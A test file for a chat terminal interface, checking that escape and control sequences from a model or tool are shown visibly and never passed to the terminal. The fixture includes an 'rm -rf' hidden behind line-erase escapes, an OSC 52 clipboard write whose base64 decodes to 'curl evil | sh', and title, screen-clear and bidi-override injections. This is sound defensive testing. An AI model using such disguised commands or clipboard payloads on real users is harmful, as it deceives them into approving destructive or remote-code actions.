import { afterEach, describe, expect, it } from 'vitest';
import { renderChat, type ChatHarness } from '../support/render-chat.js';
import { scriptedController, type ScriptedTurn } from '../support/scripted-controller.js';

let chat: ChatHarness | undefined;
afterEach(() => chat?.unmount());

/** What reaches the terminal must hold no sequence but Ink's own colours (CSI … m). */
function foreignSequences(raw: string): string[] {
  // eslint-disable-next-line no-control-regex
  return [...raw.matchAll(/\u001b(?!\[[0-9;]*m)[^]{0,8}|[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/g)].map(
    (m) => m[0],
  );
}

describe('the chat TUI shows control sequences from the model, tools and the store, never sends them', () => {
  it('a command to approve, its output and the answer show ESC as ␛', async () => {
    const hostile: ScriptedTurn = async function* ({ approve }) {
      const command = 'rm -rf ~/work \u001b[2K\rls -la';
      yield { type: 'tool_call', id: 'b', name: 'bash', input: { command } };
      const request = { id: 'b', name: 'bash', input: { command }, summary: command };
      const answer = await approve(request);
      yield { type: 'approval', request, answer };
      yield {
        type: 'tool_result',
        id: 'b',
        name: 'bash',
        output: 'total 0\n\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;owned\u0007done',
        isError: false,
      };
      yield { type: 'text_delta', text: 'All \u001b[2Jclean \u009b2J\u202Eok' };
    };
    chat = renderChat(scriptedController({ turns: [hostile] }));
    await chat.send('clean up');
    const asking = await chat.waitFor('Allow?');
    expect(asking).toContain('rm -rf ~/work ␛[2K␍ls -la');
    expect(foreignSequences(chat.raw())).toEqual([]);
    await chat.type('y');
    await chat.waitFor('All ␛[2Jclean');
    await chat.type('\x0f'); // Ctrl+O: the tool's output in full
    await chat.waitFor('␛]52;c;');
    expect(foreignSequences(chat.raw())).toEqual([]);
  });
});
